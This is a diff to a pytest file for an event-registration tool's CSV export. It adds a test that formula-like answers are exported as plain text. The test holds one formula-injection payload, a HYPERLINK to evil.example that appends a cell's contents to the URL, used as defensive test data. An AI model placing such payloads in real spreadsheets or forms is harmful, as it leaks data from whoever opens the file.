@@ -6,6 +6,7 @@ import asyncio
 import csv
 import io
 import json
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -56,7 +57,7 @@ def test_export_writes_answers_by_question_id(
     target = tmp_path / "out.csv"
     assert main(["export", "retreat", "-c", str(config), "-o", str(target)]) == 0
     rows = list(csv.DictReader(io.StringIO(target.read_text())))
-    assert [(r["email"], r["status"], r["diet"]) for r in rows] == [
+    assert [(r["email"], r["status"], r["answer:diet"]) for r in rows] == [
         ("ana@example.org", "registered", "vegan"),
         ("bo@example.org", "waiting", "vegan"),
     ]
@@ -86,3 +87,41 @@ def test_mail_inspect_prints_the_reading_as_json(
     expected = json.loads(sample.with_suffix(".expected.json").read_text())
     assert reading["text"].strip() == expected["text"].strip()
     assert reading["routing"]
+
+
+def test_export_neutralises_formulas_and_keeps_person_and_answer_columns_apart(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A cell a person typed that starts like a formula is exported as text; a question with
+    the id `name` gets its own column beside the person's name."""
+    gathering = RETREAT_TOML.replace(
+        "[[registration.questions]]",
+        '[[registration.questions]]\nid = "name"\ntype = "text"\nprompt = "Your name?"\n\n'
+        "[[registration.questions]]",
+        1,
+    )
+    (tmp_path / "retreat.toml").write_text(gathering)
+    path = tmp_path / "gateway.toml"
+    path.write_text(
+        'gathering_files = ["retreat.toml"]\n[store]\npath = "g.sqlite3"\n'
+        '[email]\naddress = "camp@example.org"\ntoken_secret = { value = "s3cret" }\n'
+    )
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+    async def register() -> None:
+        engine = await build_engine(load_config(path))
+        await engine.handle(text("ana@example.org", "hello"))
+        form_reply = replace(text("ana@example.org", ""), answers={1: hostile, 2: "1"})
+        await engine.handle(form_reply)
+        await engine.handle(text("ana@example.org", "yes"))
+        await engine.store.close()
+
+    asyncio.run(register())
+    target = tmp_path / "out.csv"
+    assert main(["export", "retreat", "-c", str(path), "-o", str(target)]) == 0
+    header, row = list(csv.reader(io.StringIO(target.read_text())))
+    assert len(header) == len(set(header)), header
+    assert "answer:name" in header and "name" in header
+    cell = row[header.index("answer:name")]
+    assert cell == "'" + hostile
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
